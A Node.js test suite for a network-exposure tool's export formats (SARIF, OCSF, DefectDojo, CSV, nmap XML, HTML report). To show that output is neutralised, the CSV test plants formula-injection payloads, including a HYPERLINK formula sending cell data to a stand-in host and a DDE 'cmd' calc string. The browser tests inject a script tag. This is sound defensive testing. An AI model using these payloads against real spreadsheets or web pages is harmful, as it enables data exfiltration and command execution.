// What `leastport export` writes, beside what others say of the formats: SARIF's published JSON Schema, DefectDojo's
// documented fields, OCSF's class 2003, Python's csv and json modules, nmap's DTD, html-validate, and the report of one
// file in a real browser.
import assert from "node:assert/strict";
import { execFileSync, spawnSync } from "node:child_process";
import { existsSync, readFileSync, writeFileSync } from "node:fs";
import { isIP } from "node:net";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { after, before, describe, test } from "node:test";
import { launch, missingBrowser, openPage } from "./support/browser.mjs";
import { makeEmpty, makeFixture } from "./support/fixture.mjs";
import { HtmlValidate } from "html-validate";
import { BIN, makeFolder } from "./support/site.mjs";
import { sarifValidator, transcribed } from "./support/validators.mjs";

const EVERY = "new,open,verifying,reappeared,fixed,allowed";
let place;

before(() => {
  place = makeFolder();
  makeFixture(place.path("fixture.db"));
  makeEmpty(place.path("empty.db"));
});
after(() => place.remove());

function write(format, { db = "fixture.db", more = [] } = {}) {
  return execFileSync(join(BIN, "leastport"), ["export", format, "--db", place.path(db), ...more],
    { encoding: "utf8", maxBuffer: 1 << 28 });
}

const lines = (text) => text.split("\n").slice(0, -1).map((line) => JSON.parse(line));
const findings = (options) => lines(write("jsonl", options));

describe("SARIF", () => {
  test("is valid by its published schema, with findings and without", () => {
    const valid = sarifValidator();
    for (const options of [{}, { more: ["--presence", EVERY] }, { db: "empty.db" }]) {
      assert.ok(valid(JSON.parse(write("sarif", options))), JSON.stringify(valid.errors, null, 1));
    }
    assert.equal(valid({ version: "2.1.0", runs: [{}] }), false, "the schema refuses something");
  });

  test("tells each finding once, of the run of its realm, and names its rule", () => {
    const log = JSON.parse(write("sarif"));
    const told = log.runs.flatMap((run) => run.results.map((result) => {
      assert.equal(run.tool.driver.rules[result.ruleIndex].id, result.ruleId);
      assert.ok(result.locations[0].logicalLocations[0].fullyQualifiedName.startsWith(run.automationDetails.id.split("/")[1]));
      return result.partialFingerprints["leastport/v1"];
    }));
    assert.deepEqual(told.sort(), findings().map((finding) => finding.fingerprint).sort());
    assert.ok(told.length > 10);
    assert.equal(new Set(log.runs.map((run) => run.automationDetails.id)).size, log.runs.length);
  });
});

describe("OCSF", () => {
  test("each line is a Compliance Finding as the specification has it", () => {
    const valid = transcribed("ocsf-1.8-compliance-finding");
    const events = lines(write("ocsf", { more: ["--presence", EVERY] }));
    const known = findings({ more: ["--presence", EVERY] });
    assert.deepEqual(events.map((event) => event.finding_info.uid).sort(), known.map((one) => one.fingerprint).sort());
    for (const event of events) {
      assert.ok(valid(event), JSON.stringify(valid.errors, null, 1));
      assert.ok(event.resources.length === 1 && isIP(event.observables[0].value));
    }
    for (const spoil of [(one) => delete one.finding_info.uid, (one) => (one.status = "Open"), (one) => (one.rule = "x"),
      (one) => (one.time = Math.floor(one.time / 1000)), (one) => (one.compliance.standards = []), (one) => (one.type_uid = 200300)]) {
      const bad = structuredClone(events[0]);
      spoil(bad);
      assert.equal(valid(bad), false, String(spoil));
    }
    const of = (presence) => events.filter((event) => known.some((one) => one.fingerprint === event.finding_info.uid && one.presence === presence));
    assert.ok(of("FIXED").length > 0 && of("FIXED").every((event) => event.activity_id === 3 && event.status_id === 4));
    assert.ok(of("OPEN").some((event) => event.compliance.status_id === 3));
  });
});

describe("DefectDojo", () => {
  test("findings have documented fields alone, and our fingerprint as their id", () => {
    const valid = transcribed("defectdojo-generic");
    const known = findings({ more: ["--presence", EVERY] });
    const whole = JSON.parse(write("defectdojo", { more: ["--presence", EVERY] }));
    assert.ok(valid(whole), JSON.stringify(valid.errors, null, 1));
    assert.deepEqual(whole.findings.map((one) => one.unique_id_from_tool).sort(), known.map((one) => one.fingerprint).sort());
    for (const spoil of [(one) => (one.owner = "x"), (one) => (one.severity = "high"), (one) => delete one.title,
      (one) => (one.endpoints[0].port = 0), (one) => (one.is_mitigated = !one.is_mitigated), (one) => (one.date = "1.2.2026")]) {
      const bad = structuredClone(whole);
      spoil(bad.findings[0]);
      assert.equal(valid(bad), false, String(spoil));
    }
    const empty = JSON.parse(write("defectdojo", { db: "empty.db" }));
    assert.ok(valid(empty) && empty.findings.length === 0);
  });
});

describe("CSV", () => {
  const read = "import csv,json,sys;print(json.dumps(list(csv.DictReader(open(sys.argv[1],newline='',encoding='utf-8'),strict=True))))";

  function rows(more, db = "fixture.db") {
    writeFileSync(place.path("out.csv"), write("csv", { more, db }));
    return JSON.parse(execFileSync("python3", ["-c", read, place.path("out.csv")], { encoding: "utf8", maxBuffer: 1 << 28 }));
  }

  test("Python's csv module reads each finding and each endpoint", () => {
    const told = rows([]);
    assert.deepEqual(told.map((row) => [row.fingerprint, row.port]), findings().map((one) => [one.fingerprint, String(one.port)]));
    assert.deepEqual(rows(["--endpoints"]).map((row) => `${row.host} ${row.port} ${row.state}`),
      findings({ more: ["--endpoints"] }).map((one) => `${one.host} ${one.port} ${one.state}`));
  });

  test("no cell is a formula", () => {
    for (const row of [...rows(["--presence", EVERY]), ...rows(["--endpoints"])]) {
      for (const cell of Object.values(row)) {
        assert.doesNotMatch(cell ?? "", /^[=+\-@\t\r]/);
      }
    }
  });

  // Each of these a spreadsheet would work out. What a scanner's file says of names is in the hands of the hosts.
  test("what would be a formula comes back as text, with all of its marks", () => {
    const evil = ["=HYPERLINK(\"http://x/?\"&A1,\"ok\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "'1", ",\"=1", " =1+1", "\uff1d1+1"];
    const escape = (text) => text.replaceAll("&", "&amp;").replaceAll("\"", "&quot;");
    writeFileSync(place.path("evil.xml"), `<nmaprun start="1600000000"><host><address addr="10.0.0.1"/><ports>${
      evil.map((text, i) => `<port protocol="tcp" portid="${i + 1}"><state state="open" reason="+1"/><service name="-1" method="probed" product="${
        escape(text)}" version="${escape(text)}"/></port>`).join("")}</ports></host></nmaprun>`);
    execFileSync(join(BIN, "leastport"), ["import", "--db", place.path("evil.db"), place.path("evil.xml")], { stdio: "pipe" });
    const told = rows(["--endpoints"], "evil.db").sort((a, b) => a.port - b.port);
    const plain = (cell) => cell.replace(/^'(?=\s*[=+\-@\uff1d])/, "");
    assert.deepEqual(told.map((row) => plain(row.product)), evil);
    assert.deepEqual(told.map((row) => plain(row.version)), evil);
    const all = [...told, ...rows([], "evil.db")];
    assert.ok(all.length >= evil.length + 1 && all.some((row) => row.title?.startsWith("'-1 on ")));
    for (const cell of all.flatMap((row) => Object.values(row))) {
      assert.doesNotMatch(cell, /^\s*[=+\-@\t\r\n\uff1d]/);
    }
  });

  test("sqlite3 imports it", () => {
    rows([]);
    const count = execFileSync("sqlite3", [":memory:", ".mode csv", `.import ${place.path("out.csv")} t`, "SELECT count(*) FROM t"], { encoding: "utf8" });
    assert.equal(Number(count), findings().length);
  });
});

describe("JSON Lines", () => {
  const read = `import json,sys
def once(pairs):
    assert len(dict(pairs)) == len(pairs), pairs
    return dict(pairs)
def none(word):
    raise ValueError(word)
text = open(sys.argv[1], "rb").read()
assert text.endswith(b"\\n")
print(json.dumps([json.loads(line.decode("utf-8", "strict"), object_pairs_hook=once, parse_constant=none) for line in text.split(b"\\n")[:-1]]))`;

  test("Python's json module reads each line: UTF-8, no member twice, no NaN", () => {
    for (const more of [["--presence", EVERY], ["--endpoints"]]) {
      writeFileSync(place.path("out.jsonl"), write("jsonl", { more }));
      const told = JSON.parse(execFileSync("python3", ["-c", read, place.path("out.jsonl")], { encoding: "utf8", maxBuffer: 1 << 28 }));
      assert.deepEqual(told, findings({ more }));
      assert.ok(told.length > 10 && told.every((one) => one.schema === `leastport.${more[0] === "--endpoints" ? "endpoint" : "finding"}/1`));
    }
  });
});

describe("nmap's XML", () => {
  const dtd = "/usr/share/nmap/nmap.dtd";

  test("is valid by the DTD; ndiff reads it and finds what changed", (context) => {
    if (!existsSync(dtd)) {
      context.skip(`${dtd} is not here`);
      return;
    }
    const path = place.path("all.xml");
    writeFileSync(path, write("xml"));
    execFileSync("xmllint", ["--noout", "--nonet", "--dtdvalid", dtd, path]);
    assert.equal(spawnSync("ndiff", [path, path]).status, 0);
    writeFileSync(place.path("less.xml"), write("xml", { more: ["--port", "22"] }));
    assert.equal(spawnSync("ndiff", [path, place.path("less.xml")]).status, 1);
    const open = findings({ more: ["--endpoints", "--state", "open"] });
    const count = execFileSync("xmllint", ["--xpath", "count(//port/state[@state='open'])", path], { encoding: "utf8" });
    assert.equal(Number(count), new Set(open.map((one) => `${one.realm} ${one.host} ${one.proto} ${one.port}`)).size);
    assert.equal(execFileSync("xmllint", ["--xpath", "count(//script|//b|//i)", path], { encoding: "utf8" }).trim(), "0");
  });
});

describe("import", () => {
  // A name that a host made up is shown, but does not come in as the name of a service.
  const service = (one) => (/^[\w.|+/:%*-]*$/.test(one.service) ? one.service : "");

  test("of our own nmap XML, a realm at a time, has the same open endpoints", () => {
    const open = (options, realm) => findings({ ...options, more: ["--endpoints", "--state", "open", "--realm", realm] });
    const places = (list) => [...new Set(list.map((one) => [one.host, one.proto, one.port, service(one)].join(" ")))].sort();
    const realms = [...new Set(findings({ more: ["--endpoints", "--state", "open"] }).map((one) => one.realm))];
    assert.ok(realms.length > 1);
    assert.ok(findings({ more: ["--endpoints", "--state", "open"] }).some((one) => one.service !== service(one)));
    for (const realm of realms) {
      const path = place.path(`${realm}.xml`);
      writeFileSync(path, write("xml", { more: ["--realm", realm] }));
      const { status, stderr } = spawnSync(join(BIN, "leastport"),
        ["import", "--db", place.path("imported.db"), "--realm", realm, "--scope", "0.0.0.0/0", "--scope", "::/0", path], { encoding: "utf8" });
      assert.equal(status, 0, stderr);
      const told = open({}, realm);
      assert.ok(told.length > 0);
      assert.deepEqual(places(open({ db: "imported.db" }, realm)), places(told));
    }
  });
});

describe("the report of one file", () => {
  test("html-validate finds it to be good HTML", async () => {
    // How it is laid out is ours to say; what is in it is the standard's.
    const validator = new HtmlValidate({ extends: ["html-validate:standard", "html-validate:a11y"] });
    for (const db of ["fixture.db", "empty.db"]) {
      const report = await validator.validateString(write("html", { db }));
      assert.deepEqual(report.results.flatMap((result) => result.messages.map((one) => `${one.line}:${one.column} ${one.ruleId} ${one.message}`)), []);
    }
    assert.equal((await validator.validateString("<p><div></div></p>")).valid, false, "it refuses something");
  });

  test("tidy has nothing to say", (context) => {
    if (spawnSync("tidy", ["--version"]).status !== 0) {
      context.skip("tidy is not here");
      return;
    }
    for (const db of ["fixture.db", "empty.db"]) {
      writeFileSync(place.path("tidy.html"), write("html", { db }));
      const { status, stderr } = spawnSync("tidy", ["-q", "-e", place.path("tidy.html")], { encoding: "utf8" });
      assert.equal(status, 0, stderr);
    }
  });

  test("in a browser: no request leaves, hostile banners are text, it prints, light and dark", async (context) => {
    if (missingBrowser()) {
      context.skip(missingBrowser());
      return;
    }
    const path = place.path("report.html");
    const browser = await launch();
    writeFileSync(path, write("html"));
    try {
      const papers = [];
      for (const colorScheme of ["light", "dark"]) {
        const { page, said, close } = await openPage(browser, { colorScheme });
        const requests = [];
        page.on("request", (request) => requests.push(request.url()));
        await page.goto(pathToFileURL(path).href);
        assert.match(await page.title(), /^Leastport: exposure report/);
        assert.equal(await page.locator("script, b, i, img, link, iframe, [onload], [onerror]").count(), 0);
        assert.match(await page.locator("body").innerText(), /<script>document\.title='owned'<\/script>/);
        papers.push(await page.evaluate(() => getComputedStyle(document.body).backgroundColor));
        assert.equal(await page.locator("table").nth(1).locator("tbody tr").count(), findings().length);
        assert.ok((await page.pdf()).subarray(0, 5).equals(Buffer.from("%PDF-")));
        assert.deepEqual(requests, [pathToFileURL(path).href]);
        assert.deepEqual(said, []);
        await close();
      }
      assert.notEqual(papers[0], papers[1]);
    } finally {
      await browser.close();
    }
  });

  test("its own policy refuses what is not its own", async (context) => {
    if (missingBrowser()) {
      context.skip(missingBrowser());
      return;
    }
    const browser = await launch();
    writeFileSync(place.path("bad.html"), write("html").replace("</body>", "<script>document.title='owned'</script></body>"));
    try {
      const { page, said, close } = await openPage(browser);
      await page.goto(pathToFileURL(place.path("bad.html")).href);
      assert.match(await page.title(), /^Leastport/);
      assert.ok(said.some((one) => /CSP|Content Security Policy/.test(one)), String(said));
      await close();
    } finally {
      await browser.close();
    }
  });
});

describe("filters", () => {
  const all = () => findings();

  test("each leaves what it names", () => {
    const worst = findings({ more: ["--min-severity", "high"] });
    assert.deepEqual(worst, all().filter((one) => ["high", "critical"].includes(one.severity)));
    assert.ok(worst.length > 0 && worst.length < all().length);
    const { host, rule_id: rule } = all()[0];
    assert.deepEqual(findings({ more: ["--host", host] }), all().filter((one) => one.host === host));
    assert.deepEqual(findings({ more: ["--rule", rule] }), all().filter((one) => one.rule_id === rule));
    assert.deepEqual(findings({ more: ["--port", "22,6379"] }), all().filter((one) => [22, 6379].includes(one.port)));
    assert.deepEqual(findings({ more: ["--realm", "nowhere"] }), []);
  });
});

describe("misuse and files", () => {
  const run = (...more) => spawnSync(join(BIN, "leastport"), ["export", "--db", place.path("fixture.db"), ...more], { encoding: "utf8" });

  test("each error names what is wrong", () => {
    for (const [more, said] of [[[], /which format/], [["docx"], /"docx" is none of/], [["csv", "--presence", "gone"], /"gone"/],
      [["csv", "--port", "70000"], /"70000"/], [["csv", "--host", "web"], /"web"/], [["sarif", "--endpoints"], /csv and jsonl/],
      [["csv", "--min-severity", "x"], /"x"/], [["-o", "csv"], /FORMAT:FILE/], [["csv", "--db", place.path("none.db")], /none\.db/]]) {
      const { status, stderr } = run(...more);
      assert.equal(status, 2, more.join(" "));
      assert.match(stderr, said);
    }
  });

  test("a target that cannot be written is found before the others are", () => {
    writeFileSync(place.path("kept.csv"), "kept");
    const { status, stderr } = run("-o", `csv:${place.path("kept.csv")}`, "-o", `sarif:${place.path("no/where")}`);
    assert.equal(status, 2);
    assert.match(stderr, /no\/where/);
    assert.equal(readFileSync(place.path("kept.csv"), "utf8"), "kept");
    assert.equal(existsSync(`${place.path("kept.csv")}.part`), false);
  });

  test("a full disk leaves what was there", (context) => {
    if (!existsSync("/dev/full")) {
      context.skip("/dev/full is not here");
      return;
    }
    const { status, stderr } = run("-o", "csv:/dev/full");
    assert.equal(status, 2);
    assert.match(stderr, /No space left/);
  });
});
